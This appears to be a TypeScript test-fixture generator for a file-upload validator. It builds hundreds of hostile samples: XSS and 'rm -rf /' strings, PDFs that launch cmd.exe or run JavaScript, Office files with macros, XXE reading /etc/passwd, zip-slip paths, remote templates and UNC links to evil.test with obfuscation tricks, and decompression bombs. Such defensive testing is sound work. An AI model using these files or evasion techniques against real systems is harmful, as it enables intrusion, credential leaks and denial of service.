import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFName, PDFString } from "pdf-lib";
import * as sample from "./upload-samples.ts";

export interface Fake {
  what: string;
  name: string;
  bytes: Buffer;
}

const ENDINGS = ["jpg", "jpeg", "png", "webp", "pdf", "docx", "xlsx", "pptx"];

/** Things that are no file of ours, as their first bytes and the rest of them look. */
async function strangers(): Promise<Record<string, Buffer>> {
  const text = (value: string) => Buffer.from(value.padEnd(64, " "));
  return {
    html: text("<!doctype html><script>alert(1)</script>"),
    svg: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    xml: text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    script: text("#!/bin/sh\nrm -rf /"),
    words: text("no file at all"),
    exe: Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"), Buffer.alloc(200)]),
    elf: Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(200)]),
    gif: Buffer.concat([Buffer.from("GIF89a\x01\0\x01\0\x80\0\0", "latin1"), Buffer.alloc(40), Buffer.from(";")]),
    zip: sample.zip([{ name: "a.txt", body: "a" }]),
    jar: sample.zip([{ name: "META-INF/MANIFEST.MF", body: "Manifest-Version: 1.0" }, { name: "A.class", body: "\xca\xfe" }]),
    ole: Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]),
    rtf: text("{\\rtf1\\ansi hello}"),
    gzip: Buffer.concat([Buffer.from("1f8b0800", "hex"), Buffer.alloc(60)]),
    mp4: Buffer.concat([Buffer.from("\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "latin1"), Buffer.alloc(60)]),
    heic: Buffer.concat([Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1"), Buffer.alloc(60)]),
    tiff: Buffer.concat([Buffer.from("II*\0\x08\0\0\0", "latin1"), Buffer.alloc(60)]),
    bmp: Buffer.concat([Buffer.from("BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0", "latin1"), Buffer.alloc(60)]),
    sevenZip: Buffer.concat([Buffer.from("377abcaf271c0004", "hex"), Buffer.alloc(60)]),
    zeros: Buffer.alloc(500),
    jpeg: sample.jpeg(),
    png: sample.png(),
    webp: sample.webp(),
    pdf: await sample.pdf(),
    docx: sample.office("docx"),
    xlsx: sample.office("xlsx"),
    pptx: sample.office("pptx"),
  };
}

const SAME: Record<string, string> = { jpg: "jpeg" };

/** Every stranger under every ending that is not its own. */
async function misnamed(): Promise<Fake[]> {
  const all = Object.entries(await strangers());
  return ENDINGS.flatMap((ending) =>
    all.filter(([kind]) => kind !== (SAME[ending] ?? ending)).map(([what, bytes]) => ({ what, name: `${what}.${ending}`, bytes })),
  );
}

/** The right first bytes, then something else, or the right file cut short. */
async function halfTrue(): Promise<Fake[]> {
  const whole: Record<string, Buffer> = {
    ...{ jpg: sample.jpeg(), png: sample.png(), webp: sample.webp(), pdf: await sample.pdf() },
    ...{ docx: sample.office("docx"), xlsx: sample.office("xlsx"), pptx: sample.office("pptx") },
  };
  const html = Buffer.from("<script>alert(document.domain)</script>".repeat(8));
  return Object.entries(whole).flatMap(([ending, bytes]) => [
    ...[4, 8, 12, 20, Math.floor(bytes.length / 2), bytes.length - 6].map((length) => ({
      what: `cut at ${length}`,
      name: `a.${ending}`,
      bytes: bytes.subarray(0, length),
    })),
    { what: "magic and html", name: `a.${ending}`, bytes: Buffer.concat([bytes.subarray(0, 12), html]) },
    { what: "html before", name: `a.${ending}`, bytes: Buffer.concat([html, bytes]) },
    { what: "a line before", name: `a.${ending}`, bytes: Buffer.concat([Buffer.from("\n"), bytes]) },
  ]);
}

/** Names that lie. */
async function liars(): Promise<Fake[]> {
  const bytes = await sample.pdf();
  const names = ["a.pdf.exe", "a.exe", "a", "a.pdf.", "a.pdf ", "a.docm", "a.xlsm", "a.dotx", "a.svg", "a.html", "a.pdf\0.exe", "a.pd\u0440", "a.pdf/b", ".pdf/", "a.zip"];
  // A blank or a dot at the end and what stands after NUL are no part of a name.
  return names.filter((name) => !["a.pdf "].includes(name)).map((name) => ({ what: "name", name, bytes }));
}

/** Two kinds in one: each is refused, or what is kept of it is one kind alone. */
async function twofold(): Promise<Fake[]> {
  const pdf = await sample.pdf();
  const zip = sample.zip([{ name: "a.txt", body: "a" }]);
  const shifted = Buffer.concat([pdf, zip]);
  return [
    { what: "pdf and zip", name: "a.pdf", bytes: shifted },
    { what: "pdf and docx", name: "a.pdf", bytes: Buffer.concat([pdf, sample.office("docx")]) },
    { what: "pdf and docx", name: "a.docx", bytes: Buffer.concat([pdf, sample.office("docx")]) },
    { what: "pdf in a zip's comment", name: "a.docx", bytes: sample.zip(sample.officeEntries("docx").slice(1), Buffer.from(pdf)) },
    { what: "pdf with html behind", name: "a.pdf", bytes: Buffer.concat([pdf, Buffer.from("<script>alert(1)</script>")]) },
    { what: "two frames", name: "a.jpg", bytes: sample.jpeg({ before: Buffer.from("ffc0000b080008000801011100", "hex") }) },
  ];
}

/** What opens, runs or hides something, or asks for a password. */
async function active(): Promise<Fake[]> {
  const script = (action: Record<string, unknown>) =>
    sample.pdf((document) => document.catalog.set(PDFName.of("OpenAction"), document.context.obj(action as never)));
  const { zip, officeEntries, office } = sample;
  const main = officeEntries("docx");
  const evil = { name: "../../evil.xml", body: "x" };
  return [
    { what: "javascript", name: "a.pdf", bytes: await script({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }) },
    { what: "javascript, plain", name: "a.pdf", bytes: await sample.pdf((d) => d.catalog.set(PDFName.of("OpenAction"), d.context.obj({ S: "JavaScript", JS: PDFString.of("x") })), 1, false) },
    { what: "launch", name: "a.pdf", bytes: await script({ S: "Launch", F: PDFString.of("cmd.exe") }) },
    { what: "named scripts", name: "a.pdf", bytes: await sample.pdf((d) => d.catalog.set(PDFName.of("Names"), d.context.obj({ JavaScript: {} }))) },
    { what: "a form that runs", name: "a.pdf", bytes: await sample.pdf((d) => d.catalog.set(PDFName.of("AcroForm"), d.context.obj({ XFA: PDFString.of("x") }))) },
    { what: "hidden name", name: "a.pdf", bytes: Buffer.from((await sample.pdf((d) => d.catalog.set(PDFName.of("OpenAction"), d.context.obj({ S: "Launch" })), 1, false)).toString("latin1").replace("/Launch", "/La#75nch"), "latin1") },
    { what: "password", name: "a.pdf", bytes: await sample.pdf((d) => { d.context.trailerInfo.Encrypt = d.context.obj({ Filter: "Standard", V: 2, R: 3 }); }, 1, false) },
    { what: "too many pages", name: "a.pdf", bytes: await sample.pdf(undefined, 2001) },
    { what: "macros", name: "a.docx", bytes: office("docx", [{ name: "word/vbaProject.bin", body: "x" }]) },
    { what: "old macros", name: "a.xlsx", bytes: office("xlsx", [{ name: "xl/macrosheets/sheet1.xml", body: "<x/>" }]) },
    { what: "activex", name: "a.pptx", bytes: office("pptx", [{ name: "ppt/activeX/activeX1.bin", body: "x" }]) },
    { what: "a macro type", name: "a.docx", bytes: zip([{ name: "[Content_Types].xml", body: '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml wordprocessingml.document.main+xml"/>' }, ...main.slice(1)]) },
    { what: "another kind inside", name: "a.docx", bytes: office("xlsx") },
    { what: "no types", name: "a.docx", bytes: zip(main.slice(1)) },
    { what: "no main part", name: "a.docx", bytes: zip(main.slice(0, 2)) },
    { what: "dtd", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>' }]) },
    { what: "wide dtd", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "b">]><x/>', "utf16le") }]) },
    { what: "template from elsewhere", name: "a.docx", bytes: office("docx", [{ name: "word/_rels/settings.xml.rels", body: '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>' }]) },
    ...hidden(),
    { what: "zip slip", name: "a.docx", bytes: office("docx", [evil]) },
    { what: "absolute", name: "a.docx", bytes: office("docx", [{ ...evil, name: "/etc/passwd" }]) },
    { what: "windows path", name: "a.docx", bytes: office("docx", [{ ...evil, name: "..\\evil.xml" }]) },
    { what: "two of one name", name: "a.docx", bytes: office("docx", [{ name: "WORD/DOCUMENT.XML", body: "<other/>" }]) },
    { what: "locked", name: "a.docx", bytes: zip(main.map((entry) => ({ ...entry, flags: 1 }))) },
  ];
}

const OFFICE_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** An Office file with these relationships of its main part. */
export function related(kind: "docx" | "xlsx" | "pptx", rels: string | Buffer): Buffer {
  const place = { docx: "word/_rels/document.xml.rels", xlsx: "xl/_rels/workbook.xml.rels", pptx: "ppt/_rels/presentation.xml.rels" }[kind];
  return sample.office(kind, [{ name: place, body: rels }]);
}

export const relationship = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="${OFFICE_TYPE}/${type}" Target="${target}"${mode}/></Relationships>`;

/** Office files that fetch something when they are opened, and ways of hiding it. */
function fetching(): Fake[] {
  const picture = relationship("image", "file://evil.test/x.png");
  const template = relationship("attachedTemplate", "https://evil.test/x.dotm");
  const [types, , main] = sample.officeEntries("docx");
  // Hardly packs, so that no ratio decides.
  const padding = (size: number) => Buffer.from(`<!--${randomBytes(size / 2).toString("hex")}-->`);
  const long = 4 * 1024 * 1024 + 10;
  const say = (what: string, bytes: Buffer, kind = "docx"): Fake => ({ what, name: `a.${kind}`, bytes });
  return [
    say("a linked picture", related("docx", picture)),
    say("a linked picture in a workbook", related("xlsx", picture), "xlsx"),
    say("a linked sound", related("pptx", relationship("audio", "https://evil.test/x.wav")), "pptx"),
    say("a linked film", related("pptx", relationship("video", "https://evil.test/x.mp4")), "pptx"),
    say("a workbook that a text names", related("docx", relationship("externalLinkPath", "https://evil.test/x.xlsx"))),
    say("a prefix", related("docx", template.replaceAll("Relationship", "r:Relationship"))),
    say("letters as numbers", related("docx", template.replace("External", "Extern&#97;l"))),
    say("letters as other numbers", related("docx", picture.replace("External", "&#x45;xternal"))),
    say("a mode in small letters", related("docx", picture.replace("External", "external"))),
    say("single quotes", related("docx", picture.replaceAll('"', "'"))),
    say("a bracket in a value", related("docx", picture.replace("x.png", "x>y.png"))),
    say("wide relationships", related("docx", Buffer.from(`\ufeff${template}`, "utf16le"))),
    say("wide relationships the other way round", related("docx", Buffer.from(`\ufeff${template}`, "utf16le").swap16())),
    say("an encoding that hides them", related("docx", `<?xml version="1.0" encoding="utf-7"?>${template.replaceAll("<", "+ADw-")}`)),
    say("no mode, and an address all the same", related("docx", relationship("image", "https://evil.test/x.png", ""))),
    say("a share as the address", related("docx", relationship("image", "\\\\evil.test\\x.png", ""))),
    say("relationships behind 4 MiB", related("docx", Buffer.concat([padding(long), Buffer.from(picture)]))),
    say("a dtd behind 4 MiB", sample.office("docx", [{ name: "word/x.xml", body: Buffer.concat([padding(long), Buffer.from("<!DOCTYPE x []><x/>")]) }])),
    say("a macro type behind 4 MiB", sample.zip([{ name: "[Content_Types].xml", body: Buffer.concat([Buffer.from(types?.body ?? ""), padding(long), Buffer.from("macroEnabled")]) }, ...sample.officeEntries("docx").slice(1)])),
    say("a macro type with letters as numbers", sample.zip([{ name: "[Content_Types].xml", body: `${String(types?.body)}<x t="macroEn&#97;bled"/>` }, ...sample.officeEntries("docx").slice(1)])),
    say("a macro type under small letters", sample.zip([{ name: "[content_types].xml", body: `${String(types?.body)}<x t="macroEnabled"/>` }, ...(main ? [main] : [])])),
  ];
}

/** The same told in other ways of writing XML, which Office reads as well. */
function hidden(): Fake[] {
  const { office, zip, officeEntries } = sample;
  const template = 'Type="http://x/attachedTemplate" Target="http://evil.test/x.dotm"';
  const rels = (text: Buffer | string) => office("docx", [{ name: "word/_rels/settings.xml.rels", body: text }]);
  const one = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`;
  const dtd = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>';
  const padding = randomBytes(3_400_000).toString("base64");
  const [types, ...others] = officeEntries("docx");
  return [
    { what: "template, with a prefix", name: "a.docx", bytes: rels(`<r:Relationships xmlns:r="x"><r:Relationship ${template} TargetMode="External"/></r:Relationships>`) },
    { what: "template, wide", name: "a.docx", bytes: rels(Buffer.from(`\ufeff${one(`${template} TargetMode="External"`)}`, "utf16le")) },
    { what: "template, in numbers", name: "a.docx", bytes: rels(one(`${template} TargetMode="Ext&#101;rnal"`)) },
    { what: "template, after much else", name: "a.docx", bytes: rels(`<!--${padding}-->${one(`${template} TargetMode="External"`)}`) },
    { what: "picture of another computer", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="\\\\evil.test\\x\\a.png" TargetMode="External"')) },
    { what: "picture of another computer, as a file", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="file://evil.test/x/a.png" TargetMode="External"')) },
    { what: "picture of another computer, with five strokes", name: "a.docx", bytes: rels(one('Type="http://x/image" Target="file://///evil.test/x/a.png" TargetMode="External"')) },
    { what: "macros, in numbers", name: "a.docx", bytes: zip([{ name: "[Content_Types].xml", body: String(types?.body).replace("</Types>", '<Override ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>') }, ...others]) },
    { what: "macros, in small letters", name: "a.docx", bytes: zip([{ name: "[content_types].xml", body: String(types?.body).replace("</Types>", '<Override ContentType="application/vnd.ms-office.vbaProject"/></Types>') }, ...others]) },
    { what: "dtd in a part of another name", name: "a.docx", bytes: office("docx", [{ name: "word/settings.dat", body: dtd }]) },
    { what: "dtd after much else", name: "a.docx", bytes: office("docx", [{ name: "word/x.xml", body: `<!--${padding}-->${dtd}` }]) },
    { what: "pdf within", name: "a.docx", bytes: zip([{ name: "%PDF-1.7.txt", body: "x" }, ...officeEntries("docx")]) },
  ];
}

/** At least three hundred files none of which may be taken as they are. */
export async function fakes(): Promise<Fake[]> {
  return [...(await misnamed()), ...(await halfTrue()), ...(await liars()), ...(await twofold()), ...(await active()), ...fetching()];
}

/** What costs much more than it weighs. */
export async function bombs(): Promise<Fake[]> {
  const million = Buffer.alloc(1024 * 1024);
  const entries = (count: number, body: Buffer | string) => Array.from({ length: count }, (_, n) => ({ name: `word/part${n}.xml`, body }));
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("");
  const packed = deflateSync(Buffer.alloc(80 * 1024 * 1024, 32));
  const stream = Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/#4fbjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`),
    ...[packed, Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n")],
  ]);
  const flood = (width: number, height: number) => sample.png({ width, height, pixels: Buffer.alloc(1000) });
  return [
    { what: "300 MiB of nothing", name: "a.docx", bytes: sample.zip([...sample.officeEntries("docx"), ...entries(300, million)]) },
    { what: "one entry of 300 MiB", name: "a.docx", bytes: sample.office("docx", [{ name: "word/big.xml", body: Buffer.alloc(300 * 1024 * 1024) }]) },
    { what: "an entry that says it is small", name: "a.docx", bytes: sample.office("docx", [{ name: "word/big.xml", body: Buffer.alloc(250 * 1024 * 1024), says: 10 }]) },
    { what: "too many entries", name: "a.docx", bytes: sample.office("docx", entries(2_001, "x")) },
    { what: "a zip in a zip in a zip", name: "a.docx", bytes: sample.office("docx", [{ name: "word/a.zip", body: sample.zip([{ name: "b.zip", body: sample.zip([{ name: "c", body: Buffer.alloc(210 * 1024 * 1024) }]) }]) }, ...entries(210, million)]) },
    { what: "a billion laughs", name: "a.docx", bytes: sample.office("docx", [{ name: "word/lol.xml", body: `<!DOCTYPE lolz [<!ENTITY l0 "lol">${laughs}]><lolz>&l9;</lolz>` }]) },
    { what: "pixel flood", name: "a.png", bytes: flood(60_000, 60_000) },
    { what: "more pixels than counted", name: "a.png", bytes: flood(2_147_483_647, 2_147_483_647) },
    { what: "a flood in a jpeg", name: "a.jpg", bytes: sample.jpeg({ width: 65_535, height: 65_535 }) },
    { what: "pixels that unpack to more than there are", name: "a.png", bytes: sample.png({ pixels: Buffer.alloc(200 * 1024 * 1024) }) },
    { what: "a list of objects that unpacks to 80 MiB", name: "a.pdf", bytes: stream },
    { what: "a million stream words", name: "a.pdf", bytes: Buffer.from(`%PDF-1.7\n${"stream\n".repeat(1_000_000)}\n%%EOF\n`) },
    { what: "pages in a circle", name: "a.pdf", bytes: Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n") },
    { what: "deep brackets", name: "a.pdf", bytes: Buffer.from(`%PDF-1.7\n1 0 obj\n${"[".repeat(2_000_000)}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`) },
  ];
}
